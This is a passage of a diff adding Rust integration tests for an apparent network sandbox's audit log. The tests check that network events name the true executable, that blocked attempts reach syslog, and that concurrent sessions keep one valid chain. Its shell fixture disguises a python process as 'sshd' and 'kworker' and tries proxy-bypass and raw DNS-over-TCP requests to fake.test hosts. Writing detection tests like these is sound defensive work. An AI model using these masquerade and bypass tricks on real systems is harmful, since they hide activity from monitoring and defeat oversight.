+/usr/bin/python3 -c 'import os; os.execv("/usr/bin/python3", ["sshd", "-c", "import ctypes, urllib.request; ctypes.CDLL(None).prctl(15, b\"kworker\", 0, 0, 0); urllib.request.urlopen(\"http://api.fake.test/by-liar\").read()"])'
+curl -sS -o /dev/null --noproxy '*' http://api.fake.test/by-curl-direct
+curl -sS -o /dev/null http://other.fake.test/by-curl-blocked || true
+/usr/bin/python3 -c '
+import socket, struct
+ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x08tcp-name\x04fake\x04test\x00" + struct.pack(">HH", 1, 1)
+s = socket.create_connection((ns, 53))
+s.sendall(struct.pack(">H", len(q)) + q)
+s.recv(512)
+'
+"#;
+
+#[test]
+fn every_network_event_names_the_sandbox_process_by_its_real_executable() {
+    let Some(net) = enter("every_network_event_names_the_sandbox_process_by_its_real_executable")
+    else {
+        return;
+    };
+    let r = net
+        .cordon()
+        .policy(NEVER_TERMINATE)
+        .allow(&["api.fake.test:80"])
+        .run(&["sh", "-c", ATTRIBUTION_SCRIPT])
+        .ok();
+    let events = net.audit_events(&r.session());
+    let curl_exe = std::fs::canonicalize("/usr/bin/curl").unwrap();
+    let python_exe = std::fs::canonicalize(PY).unwrap();
+    let by_path = |path: &str| -> &Value {
+        events
+            .iter()
+            .find(|e| e["path"] == path)
+            .unwrap_or_else(|| panic!("no event for {path}: {events:#?}"))
+    };
+    let process = |e: &Value| -> (u64, String, Vec<String>) {
+        let p = &e["process"];
+        assert!(p.is_object(), "no process in {e}");
+        (
+            p["pid"].as_u64().unwrap(),
+            p["exe"].as_str().unwrap().to_owned(),
+            p["cmdline"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|a| a.as_str().unwrap().to_owned())
+                .collect(),
+        )
+    };
+
+    let (curl_pid, exe, cmdline) = process(by_path("/by-curl"));
+    assert_eq!(Path::new(&exe), curl_exe);
+    assert_eq!(cmdline[0], "curl");
+    assert!(cmdline.contains(&"http://api.fake.test/by-curl".to_owned()));
+    // A pid of the sandbox's own namespace: its init is 1, the shell 2 or so.
+    assert!(curl_pid > 1 && curl_pid < 100, "{curl_pid}");
+
+    let (python_pid, exe, cmdline) = process(by_path("/by-python"));
+    assert_eq!(Path::new(&exe), python_exe);
+    assert_eq!(cmdline[..2], [PY.to_owned(), "-c".to_owned()]);
+    assert_ne!(python_pid, curl_pid);
+
+    // The liar: argv[0] and the thread name say otherwise, the executable does not.
+    let (liar_pid, exe, cmdline) = process(by_path("/by-liar"));
+    assert_eq!(Path::new(&exe), python_exe);
+    assert_eq!(cmdline[0], "sshd");
+    assert!(![curl_pid, python_pid].contains(&liar_pid));
+
+    // Transparent capture: the DNS query and the connection are curl's too.
+    let (direct_pid, exe, _) = process(by_path("/by-curl-direct"));
+    assert_eq!(Path::new(&exe), curl_exe);
+    let dns: Vec<&Value> = records(&events, "dns_query", Some("api.fake.test"));
+    assert!(!dns.is_empty(), "{events:#?}");
+    for q in &dns {
+        let (pid, exe, _) = process(q);
+        assert_eq!(
+            (pid, Path::new(&exe)),
+            (direct_pid, curl_exe.as_path()),
+            "{q}"
+        );
+    }
+
+    // DNS over TCP (redirected to the gateway) is python's.
+    let tcp_dns = records(&events, "dns_query", Some("tcp-name.fake.test"));
+    assert_eq!(tcp_dns.len(), 1, "{events:#?}");
+    let (_, exe, cmdline) = process(tcp_dns[0]);
+    assert_eq!(
+        (Path::new(&exe), cmdline[0].as_str()),
+        (python_exe.as_path(), PY)
+    );
+
+    // A blocked attempt names its process as well.
+    let blocked = by_path("/by-curl-blocked");
+    assert_eq!(blocked["verdict"], "block");
+    assert_eq!(Path::new(&process(blocked).1), curl_exe);
+
+    // Session records have no process; every network record has one.
+    for e in &events {
+        let network = !matches!(e["kind"].as_str(), Some("session_start" | "session_end"));
+        assert_eq!(e["process"].is_object(), network, "{e}");
+    }
+
+    // People see it too, and the chain covers it.
+    let table = net.audit(&["events", &r.session()]);
+    assert!(
+        table.stdout.lines().any(|l| l.contains("/by-liar")
+            && l.contains(&format!("{liar_pid} python3"))
+            && !l.contains("sshd")),
+        "{}",
+        table.stdout
+    );
+    let cef = net.audit(&["export", "--format", "cef", "--session", &r.session()]);
+    assert!(
+        cef.stdout
+            .contains(&format!("spid={curl_pid} sproc={}", curl_exe.display())),
+        "{}",
+        cef.stdout
+    );
+    assert!(net.audit(&["verify"]).status.success());
+}
+
+#[test]
+fn blocked_attempts_reach_a_tcp_syslog_receiver_live_and_allowed_ones_are_filtered() {
+    let Some(net) =
+        enter("blocked_attempts_reach_a_tcp_syslog_receiver_live_and_allowed_ones_are_filtered")
+    else {
+        return;
+    };
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("tcp://{}", listener.local_addr().unwrap());
+    let policy = format!(
+        "[response]\nterminate_after_blocked = 0\n[audit]\nsyslog = \"{url}\"\nsyslog_min_severity = \"warning\"\n"
+    );
+    let r = net
+        .cordon()
+        .policy(&policy)
+        .allow(&["api.fake.test:80"])
+        .run(&[
+            "sh",
+            "-c",
+            "curl -sS -o /dev/null http://api.fake.test/ok; curl -sS -o /dev/null http://other.fake.test/no; true",
+        ])
+        .ok();
+    let (mut conn, _) = listener.accept().unwrap();
+    conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+    let mut all = Vec::new();
+    let _ = conn.read_to_end(&mut all);
+    // Octet-counted frames: LEN SP MSG.
+    let mut messages = Vec::new();
+    let mut rest = &all[..];
+    while !rest.is_empty() {
+        let sp = rest.iter().position(|&b| b == b' ').unwrap();
+        let n: usize = std::str::from_utf8(&rest[..sp]).unwrap().parse().unwrap();
+        messages.push(String::from_utf8(rest[sp + 1..sp + 1 + n].to_vec()).unwrap());
+        rest = &rest[sp + 1 + n..];
+    }
+    assert_eq!(messages.len(), 1, "{messages:#?}");
+    let m = &messages[0];
+    assert!(m.starts_with("<108>1 "), "{m}");
+    assert!(m.contains(" blocked [cordon@32473 "), "{m}");
+    assert!(m.contains(&format!("session=\"{}\"", r.session())), "{m}");
+    assert!(m.contains("host=\"other.fake.test\""), "{m}");
+    assert!(m.contains("exe=\""), "the process is forwarded too: {m}");
+}
+
+// ------------------------------------------------------------------------------------------
+// Concurrent sessions, one store.
+
+#[test]
+fn parallel_sessions_writing_one_store_lose_nothing_and_keep_one_valid_chain() {
+    let Some(net) =
+        enter("parallel_sessions_writing_one_store_lose_nothing_and_keep_one_valid_chain")
+    else {
+        return;
+    };
+    const SESSIONS: usize = 6;
+    const REQUESTS: usize = 40;
+    let script = format!(
+        "import urllib.request\nfor i in range({REQUESTS}):\n    urllib.request.urlopen('http://api.fake.test/p%d' % i).read()\n"
+    );
+    let runs: Vec<Ran> = std::thread::scope(|s| {
+        let handles: Vec<_> = (0..SESSIONS)
+            .map(|i| {
+                let (net, script) = (&net, &script);
+                s.spawn(move || {
+                    net.cordon()
+                        .policy(NEVER_TERMINATE)
+                        .allow(&["api.fake.test:80"])
+                        .args(&["--user", &format!("user{i}")])
+                        .run(&[PY, "-c", script])
+                        .ok()
+                })
+            })
+            .collect();
+        handles.into_iter().map(|h| h.join().unwrap()).collect()
+    });
+    let all = json_lines(&net.audit(&["export"]).stdout);
+    // One chain: global ids 1..=N with no gap, whatever the interleaving.
+    let ids: Vec<u64> = all.iter().map(|e| e["id"].as_u64().unwrap()).collect();
+    assert_eq!(ids, (1..=all.len() as u64).collect::<Vec<_>>());
+    let mut interleaved = false;
+    for (i, r) in runs.iter().enumerate() {
+        let session = r.session();
+        let events: Vec<&Value> = all
+            .iter()
+            .filter(|e| e["session_id"] == session.as_str())
+            .collect();
+        // Everything each session did is there, in its own order.
+        let requests = records(&all, "http_request", Some("api.fake.test"))
+            .into_iter()
+            .filter(|e| e["session_id"] == session.as_str())
+            .count();
+        assert_eq!(requests, REQUESTS, "session {i}");
+        let seqs: Vec<u64> = events
+            .iter()
+            .map(|e| e["session_seq"].as_u64().unwrap())
+            .collect();
+        assert_eq!(
+            seqs,
+            (1..=events.len() as u64).collect::<Vec<_>>(),
+            "session {i}"
+        );
+        assert_eq!(events[0]["kind"], "session_start");
+        assert_eq!(events[events.len() - 1]["kind"], "session_end");
+        assert!(events
+            .iter()
+            .all(|e| e["user_id"] == format!("user{i}").as_str()));
+        let first = events[0]["id"].as_u64().unwrap();
+        let last = events[events.len() - 1]["id"].as_u64().unwrap();
+        interleaved |= last - first + 1 != events.len() as u64;
+    }
+    assert!(
+        interleaved,
+        "the sessions did not overlap; the test proved nothing"
+    );
+    let f = net.audit(&["verify"]);
+    assert!(f.status.success(), "{}{}", f.stdout, f.stderr);
+    assert!(
+        f.stdout
+            .starts_with(&format!("ok: {} records verified", all.len())),
+        "{}",
+        f.stdout
     );
 }
